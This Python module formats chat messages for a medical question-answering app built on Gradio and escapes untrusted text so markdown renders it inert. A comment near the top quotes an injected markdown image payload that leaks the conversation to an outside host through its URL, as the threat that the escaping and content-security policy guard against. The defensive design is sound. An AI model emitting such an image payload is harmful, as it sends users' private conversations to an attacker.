"""Chat messages as the app shows them: the model's answer (carrying its answer id in the message
metadata), and UI-only notices (titled, so model/chat.py ``history_to_messages`` keeps them out of
the model's context): emergency, context shortened, timeout, error, Sources panel, disclaimer.
Library module (no command of its own).
"""

from __future__ import annotations

import re

import gradio as gr

DISCLAIMER_TITLE = {"zh": "ℹ️ 仅供参考，不构成医疗建议", "en": "ℹ️ Information only, not medical advice"}
EMERGENCY_TITLE = "🚨 Emergency · 紧急"
TRIAGE_EMERGENCY_TITLE = "🚨 Emergency · 紧急 (raised by the triage model's second opinion)"
THINKING_TITLE = "💭 Thinking"


# Untrusted text (the model's answers, retrieved and uploaded documents, imported conversations)
# is shown with these characters backslash-escaped: markdown then renders it as the text it is,
# never as HTML, a link or an image (an injected ![](http://host/?leak=...) would otherwise make
# the browser send the conversation away). ``from_inert`` undoes it exactly.
_SPECIAL = re.compile(r"([\\\[\]<>&])")
_ESCAPED = re.compile(r"\\([\\\[\]<>&])")

# For what the page shows without our escaping (what the user types): no image from another origin.
CONTENT_SECURITY_POLICY = '<meta http-equiv="Content-Security-Policy" content="img-src \'self\' data: blob:">'


def inert(text: str) -> str:
    """``text`` as markdown that renders to exactly that text: no tags, links or images."""
    return _SPECIAL.sub(r"\\\1", text)


def from_inert(text: str) -> str:
    """The text :func:`inert` was given."""
    return _ESCAPED.sub(r"\1", text)


def notice(title: str, text: str, collapsed: bool = False) -> dict:
    """A UI-only message; ``collapsed`` renders it as a closed accordion (Gradio's "done" status)."""
    metadata = {"title": title}
    if collapsed:
        metadata["status"] = "done"
    return {"role": "assistant", "content": text, "metadata": metadata}


def answer_message(text: str, answer_id: str) -> dict:
    """The model's answer (shown inert); its id (``metadata.id``) is how feedback finds its record."""
    return {"role": "assistant", "content": inert(text), "metadata": {"id": answer_id}}


def thinking_message(reasoning: str, seconds: float | None = None) -> dict:
    """The model's reasoning in a collapsed block (shown inert), titled "Thinking…" while it
    streams and with its ``duration`` once the answer began; titled, so it never goes back into
    the model's context."""
    metadata = {"title": THINKING_TITLE + ("…" if seconds is None else ""), "status": "done"}
    if seconds is not None:
        metadata["duration"] = round(seconds, 1)
    return {"role": "assistant", "content": inert(reasoning.strip()), "metadata": metadata}


def disclaimer_message(text: str, lang: str) -> dict:
    """The disclaimer that closes every answer (collapsed), so API clients of /chat receive it too."""
    return notice(DISCLAIMER_TITLE["zh" if lang == "zh" else "en"], text, collapsed=True)


def sources_message(sources) -> dict:
    """The Sources panel under a grounded answer, numbered as in the prompt the model cites; each
    source's name and text are quoted as inert text."""
    lines = []
    for s in sources:
        snippet = " ".join(s.text.split())
        snippet = snippet if len(snippet) <= 300 else snippet[:300] + "…"
        lines.append(f"**[{s.number}]** {inert(s.source)} · score {s.score:.3f}\n\n> {inert(snippet)}")
    return notice(f"📚 Sources ({len(sources)})", "\n\n".join(lines), collapsed=True)


def error_notice(err) -> dict:
    return notice("⚠️ Error", f"{err}. The server is still running: try again.")


def answer_id(message) -> str | None:
    """The answer id a chat message carries (None for questions and notices)."""
    metadata = message.get("metadata") or {}
    return None if metadata.get("title") else metadata.get("id")


def rated_answer(history, index: int, records: dict):
    """The record of the answer in the chat bubble holding message ``index``.

    The browser reports the first message of the rated bubble, which groups the answer with the
    notices and Sources panel around it: the bubble is the run of assistant messages around
    ``index``, and the answer is the one whose id has a record."""
    if not 0 <= index < len(history) or history[index].get("role") != "assistant":
        return None
    start = index
    while start > 0 and history[start - 1].get("role") == "assistant":
        start -= 1
    end = index
    while end + 1 < len(history) and history[end + 1].get("role") == "assistant":
        end += 1
    ids = [answer_id(m) for m in history[start : end + 1]]
    return next((records[i] for i in ids if i in records), None)


def last_answer(history, records: dict):
    """The record of the last model answer in ``history``; ``gr.Error`` when there is none."""
    for item in reversed(history):
        if item.get("role") != "assistant" or (item.get("metadata") or {}).get("title"):
            continue
        record = records.get(answer_id(item))
        if record is not None:
            return record
        break
    raise gr.Error("There is no model answer to work on yet: ask a question first.")


def message_index(history, wanted: str) -> int | None:
    """Where the answer with id ``wanted`` sits in ``history`` (None: no longer there)."""
    return next((i for i, m in enumerate(history) if answer_id(m) == wanted), None)
